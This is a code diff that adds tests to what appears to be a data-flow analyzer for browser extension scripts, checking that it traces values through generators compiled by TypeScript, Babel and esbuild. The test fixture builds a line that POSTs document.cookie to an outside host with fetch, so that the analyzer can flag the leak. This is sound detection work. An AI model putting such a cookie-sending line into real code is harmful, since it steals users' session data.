@@ -96,6 +96,38 @@ const jumping: Readonly<Record<string, Jumping>> = {
   },
 };
 
+/** Generators that hand out the first of what they are given, and loops over them. */
+const generators: Readonly<Record<string, string>> = {
+  'TypeScript to ES5':
+    'function g(a, b) { return __generator(this, function (_a) { switch (_a.label) { case 0: return [4 /*yield*/, a]; case 1: _a.sent(); void b; return [2] } }) } for (const x of g(GIVEN)) SENT',
+  'TypeScript to ES5, of another':
+    'function h(a) { return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, a]; case 1: _a.sent(); return [2] } }) } function g(a, b) { return __generator(this, function (_a) { switch (_a.label) { case 0: return [5 /*yield**/, __values(h(a))]; case 1: _a.sent(); void b; return [2] } }) } for (const x of g(GIVEN)) SENT',
+  'Babel to ES5':
+    'var _marked = regeneratorRuntime.mark(g); function g(a, b) { return regeneratorRuntime.wrap(function g$(_c) { while (1) switch (_c.prev = _c.next) { case 0: _c.next = 2; return a; case 2: void b; case 3: case "end": return _c.stop() } }, _marked) } for (const x of g(GIVEN)) SENT',
+  'Babel of 2025 to ES5':
+    'var g = _regenerator().m(function g(a, b) { return _regenerator().w(function (_c) { while (1) switch (_c.n) { case 0: _c.n = 1; return a; case 1: void b; case 2: return _c.a(2) } }, g) }); for (const x of g(GIVEN)) SENT',
+  'esbuild, asynchronous':
+    '(function (a, b) { return __asyncGenerator(this, [a], function* (a) { yield new __await(5); yield a }) })(GIVEN).next().then(({ value: x }) => SENT)',
+  'TypeScript, asynchronous':
+    'function g(a, b) { return __asyncGenerator(this, arguments, function* g_1() { yield yield __await(a); void b }) } (async () => { for await (const x of g(GIVEN)) SENT })()',
+  'Babel, asynchronous':
+    'function g(_x, _x2) { return _g.apply(this, arguments) } function _g() { _g = _wrapAsyncGenerator(function* (a, b) { yield a; void b }); return _g.apply(this, arguments) } (async () => { for await (const x of g(GIVEN)) SENT })()',
+};
+
+describe('compiled generators', () => {
+  for (const [compiler, code] of Object.entries(generators)) {
+    it(`of ${compiler} are read as they were written`, () => {
+      const sent = "fetch('https://in.gather.dev/', { method: 'POST', body: x })";
+      const flowsOf = (given: string) =>
+        flowsBetween({
+          'content.js': code.replace('GIVEN', given).replace('SENT', sent),
+        }).join();
+      assert.match(flowsOf('document.cookie, 5'), /cookies content\.js > network/);
+      assert.doesNotMatch(flowsOf('5, document.cookie'), /network/);
+    });
+  }
+});
+
 describe('compiled async functions', () => {
   for (const [compiler, code] of Object.entries(forms)) {
     it(`of ${compiler} are read as they were written`, () => {
